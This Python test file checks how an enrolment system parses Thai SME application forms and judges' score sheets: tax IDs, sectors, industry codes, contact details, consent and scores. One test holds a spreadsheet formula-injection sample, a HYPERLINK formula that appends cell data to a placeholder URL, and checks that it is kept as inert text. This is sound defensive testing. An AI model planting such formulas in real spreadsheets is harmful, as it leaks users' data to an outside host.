from datetime import date
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enrolment.application.answers import (
    is_consent,
    parse_email,
    parse_kind,
    parse_phone,
    parse_sector,
    parse_tsic_section,
)
from enrolment.application.intake import read_record
from enrolment.application.sheet_intake import read_sheet
from enrolment.domain.applications import REQUIRED_FIELDS
from enrolment.domain.words import Dimension, Kind, Sector
from starsme.thai import BANGKOK, Unreadable
from tests.enrolment.making import a_call, form_cells


def test_a_record_without_fault_is_read_whole() -> None:
    record = read_record(7, form_cells(), lambda number: f"key of {number}")
    one = record.application
    assert (one.row, one.number, one.number_fits, record.number) == (7, "key of 0655997244151", True, "0655997244151")
    assert (one.kind, one.province, one.sector) == (Kind.JURISTIC, "50", Sector.MANUFACTURING)
    assert (one.employees, one.revenue_thb, one.started_on) == (12, Fraction(1_800_000), date(1998, 5, 17))
    assert one.submitted_at is not None
    assert one.submitted_at.tzinfo is BANGKOK
    assert (one.complete, one.entitled, one.consent_publicity) == (True, True, False)
    assert (record.tsic_section, record.phone, record.email) == ("C", "050201513", "someone@example.com")


@pytest.mark.parametrize("field", REQUIRED_FIELDS)
@pytest.mark.parametrize("cell", ["", " - ", "ไม่มี"])
def test_an_empty_required_field_is_named_incomplete_and_not_unreadable(field: str, cell: str) -> None:
    record = read_record(1, form_cells(**{field: cell}), str)
    assert record.application.incomplete_fields == (field,)
    assert record.unreadable == frozenset()


@pytest.mark.parametrize(
    ("field", "cell"),
    [
        ("tax_id", "1.05556E+11"),
        ("kind", "หจก."),
        ("name_th", "ย" * 1001),
        ("province", "Chiengmai"),
        ("sector", "อื่นๆ"),
        ("employees", "5-10"),
        ("employees", "9" * 30),
        ("revenue", "3 ล้าน 5 แสน"),
        ("started_on", "2558"),
        ("contact_name", "ย" * 1001),
        ("phone", "0" * 1001),
        ("digital_5", "5"),
        ("digital_5", "มาก"),
    ],
)
def test_an_unreadable_required_field_is_incomplete_and_unreadable(field: str, cell: str) -> None:
    record = read_record(1, form_cells(**{field: cell}), str)
    assert record.application.incomplete_fields == (field,)
    assert record.unreadable == {field}


def test_an_unreadable_clock_is_told_but_leaves_the_application_complete() -> None:
    record = read_record(1, form_cells(submitted_at="เมื่อวาน"), str)
    assert record.application.complete
    assert record.application.submitted_at is None
    assert record.unreadable == {"submitted_at"}


@pytest.mark.parametrize(
    ("field", "cell"),
    [("email", "not an address"), ("tsic", "1629"), ("postcode", "-"), ("line_id", " "), ("name_en", "")],
)
def test_an_optional_field_is_stored_as_empty_when_it_cannot_be_read(field: str, cell: str) -> None:
    record = read_record(1, form_cells(**{field: cell}), str)
    assert getattr(record, {"tsic": "tsic_section"}.get(field, field)) is None
    assert record.application.complete
    assert record.unreadable == frozenset()


def test_a_formula_is_text_and_a_phone_only_needs_to_be_there() -> None:
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
    record = read_record(1, form_cells(name_th="=1+1", phone=formula), str)
    assert record.application.complete
    assert (record.name_th, record.phone, record.raw["phone"]) == ("=1+1", None, formula)


def test_the_number_is_kept_apart_from_what_was_typed() -> None:
    record = read_record(1, form_cells(tax_id="0-6559-97244-15-1"), lambda _number: "key")
    assert "tax_id" not in record.raw
    assert "0655997244151" not in str(record.raw) + str(record.application)
    assert read_record(1, form_cells(tax_id="1.05556E+11"), str).number == "1.05556E+11"


@pytest.mark.parametrize(
    ("kind", "number", "fits"),
    [
        ("นิติบุคคล", "0655997244151", True),
        ("บุคคลธรรมดา", "0655997244151", False),
        ("บุคคลธรรมดา", "3001545836846", True),
        ("หจก.", "3001545836846", True),
        ("หจก.", "9001852260819", False),
        ("นิติบุคคล", "525969167733", False),
    ],
)
def test_a_number_must_fit_its_kind_when_the_kind_is_known(kind: str, number: str, fits: bool) -> None:
    assert read_record(1, form_cells(kind=kind, tax_id=number), str).application.number_fits is fits


@pytest.mark.parametrize("cell", ["ยินยอม", " ยินยอม ", "ข้าพเจ้ายินยอม", "ใช่", "Yes", "YES"])
def test_consent_is_given_in_so_many_words(cell: str) -> None:
    assert is_consent(cell)


@pytest.mark.parametrize("cell", ["", "ไม่ยินยอม", "ข้าพเจ้าไม่ยินยอม", "No", "-", "yes please", "true"])
def test_anything_else_is_no_consent(cell: str) -> None:
    assert not is_consent(cell)


def test_sectors_are_read_with_or_without_their_prefix() -> None:
    assert {parse_sector(cell) for cell in ("ผลิต", "การผลิต", "ภาคการผลิต", "ภาคผลิต")} == {Sector.MANUFACTURING}
    assert [parse_sector(cell) for cell in ("ค้าส่ง", "ภาคค้าปลีก", "ภาคการบริการ\n")] == [
        Sector.WHOLESALE,
        Sector.RETAIL,
        Sector.SERVICES,
    ]
    for cell in ("อื่นๆ", "ค้า", ""):
        with pytest.raises(Unreadable):
            parse_sector(cell)


def test_a_kind_is_one_of_two_words() -> None:
    assert parse_kind(" บุคคลธรรมดา") is Kind.NATURAL
    with pytest.raises(Unreadable):
        parse_kind("บริษัท")


@pytest.mark.parametrize(
    ("code", "section"), [("01111", "A"), ("10793", "C"), ("47111", "G"), ("99000", "U"), ("๙๖๑๐๓", "S")]
)
def test_the_first_two_digits_of_a_tsic_code_are_its_section(code: str, section: str) -> None:
    assert parse_tsic_section(code) == section


@pytest.mark.parametrize("code", ["1629", "04000", "123456", "ไม่ทราบ", ""])
def test_a_tsic_code_outside_the_classification_is_unreadable(code: str) -> None:
    with pytest.raises(Unreadable):
        parse_tsic_section(code)


@pytest.mark.parametrize(
    "cell", ["a@b", "a b@example.com", "a@example", "@example.com", "a@ex..com", "x" * 250 + "@example.com"]
)
def test_what_mail_cannot_reach_is_no_address(cell: str) -> None:
    with pytest.raises(Unreadable):
        parse_email(cell)


def test_phone_numbers_are_their_digits() -> None:
    assert [parse_phone(cell) for cell in ("050-201-513", "(053) 123 456", "+66 81 234 5678", "๐๕๐-๕๓๕-๓๔๕")] == [
        "050201513",
        "053123456",
        "+66812345678",
        "050535345",
    ]
    with pytest.raises(Unreadable):
        parse_phone("โทรหลังห้าโมง")


@given(st.dictionaries(st.sampled_from(sorted(form_cells())), st.text(max_size=30)))
def test_any_text_in_any_cell_is_read_without_an_error(changes: dict[str, str]) -> None:
    record = read_record(1, form_cells(**changes), str)
    assert set(record.unreadable) <= {*record.application.incomplete_fields, "submitted_at"}


SHEET = {
    "judge_code": "J06",
    "agency": "AG01",
    "app_row": "๔๗",
    "tax_id": "0563950217181",
    "conflict": "no",
    "remark": "",
}


def sheet_cells(**changes: str) -> dict[str, str]:
    return SHEET | dict.fromkeys(Dimension, "3") | changes


def test_a_sheet_is_read_as_typed() -> None:
    record = read_sheet(a_call(), 5, sheet_cells(management="๕", conflict="Yes "), str)
    assert (record.sheet.line, record.sheet.judge, record.sheet.row, record.sheet.number) == (
        5,
        "J06",
        47,
        "0563950217181",
    )
    assert (record.sheet.conflict, record.app_row, record.remark) == (True, "47", None)
    assert record.sheet.scores[Dimension.MANAGEMENT] == 5


@pytest.mark.parametrize("cell", ["", "6", "0", "4.5", "-1", "สี่", "10"])
def test_a_score_that_is_none_is_absent(cell: str) -> None:
    assert Dimension.DIGITAL not in read_sheet(a_call(), 1, sheet_cells(digital=cell), str).sheet.scores


@pytest.mark.parametrize("cell", ["", "maybe", "-", "true"])
def test_a_conflict_that_is_neither_yes_nor_no_was_not_said(cell: str) -> None:
    assert read_sheet(a_call(), 1, sheet_cells(conflict=cell), str).sheet.conflict is None


@pytest.mark.parametrize("cell", ["", "abc", "1.5", "99999999999"])
def test_a_row_that_is_no_row_refers_to_nothing(cell: str) -> None:
    assert read_sheet(a_call(), 1, sheet_cells(app_row=cell), str).sheet.row is None
